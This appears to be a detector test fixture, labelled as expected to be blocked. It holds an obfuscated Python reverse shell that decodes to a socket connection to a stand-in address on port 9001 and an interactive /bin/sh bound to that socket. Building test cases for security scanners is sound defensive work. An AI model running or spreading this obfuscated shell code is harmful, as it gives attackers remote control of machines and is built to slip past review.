# expect: BLOCKED category: reverse_shell variant-of: risky/reverse_shell/subprocess_stdio.py technique: encode+getattr
socket = __import__(__import__('codecs').decode('fbpxrg', 'rot13'))
subprocess = __import__(''.join(['s', 'u', 'b', 'p', 'r', 'o', 'c', 'e', 's', 's']))
conn = getattr(socket, bytes.fromhex('6372656174655f636f6e6e656374696f6e').decode())((getattr(bytes, __import__('base64').b64decode('ZnJvbWhleA==').decode())('3230332e302e3131332e35').decode(), 9001))
getattr(subprocess, ''.join(['P', 'o', 'p', 'e', 'n']))([''.join(map(chr, [47, 98, 105, 110, 47, 115, 104])), 'i-'[::-1]], stdin=getattr(conn, ''.join(map(chr, [102, 105, 108, 101, 110, 111])))(), stdout=getattr(conn, 'onelif'[::-1])(), stderr=getattr(conn, __import__('codecs').decode('svyrab', 'rot13'))()).wait()
